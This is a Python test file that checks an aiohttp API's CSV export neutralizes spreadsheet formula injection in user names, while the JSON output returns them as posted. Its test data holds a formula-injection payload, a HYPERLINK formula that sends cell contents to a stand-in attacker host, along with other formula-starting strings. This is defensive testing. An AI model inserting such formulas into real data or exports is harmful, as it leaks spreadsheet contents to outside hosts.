"""The CSV export through HTTP: user names that a spreadsheet would run as formulas are neutralized."""

from __future__ import annotations

import csv
import io

from aiohttp import web
from aiohttp.test_utils import TestClient

from tests.conftest import admin

Client = TestClient[web.Request, web.Application]
USERS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2", "@SUM(A1:A9)", "alice", "a=b"]


async def test_the_csv_export_neutralizes_formulas_and_json_stays_as_posted(client: Client) -> None:
    link = {"name": "Docs", "url": "https://d.example/"}
    resp = await client.post("/api/links", json=link, headers=admin())
    assert resp.status == 201
    for user in USERS:
        assert (await client.post("/api/links/1/usage", data={"user": user})).status == 201
    as_json = await (await client.get("/api/links/1/usage")).json()
    assert [u["user"] for u in as_json] == USERS  # the data is stored and served as posted
    resp = await client.get("/api/links/1/usage?format=csv")
    assert resp.status == 200 and resp.content_type == "text/csv"
    rows = list(csv.reader(io.StringIO(await resp.text())))
    assert [r[0] for r in rows[1:]] == [
        '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "'+1+1",
        "'-2",
        "'@SUM(A1:A9)",
        "alice",
        "a=b",
    ]
    assert [r[1:] for r in rows[1:]] == [[u["date"], str(u["duration"])] for u in as_json]
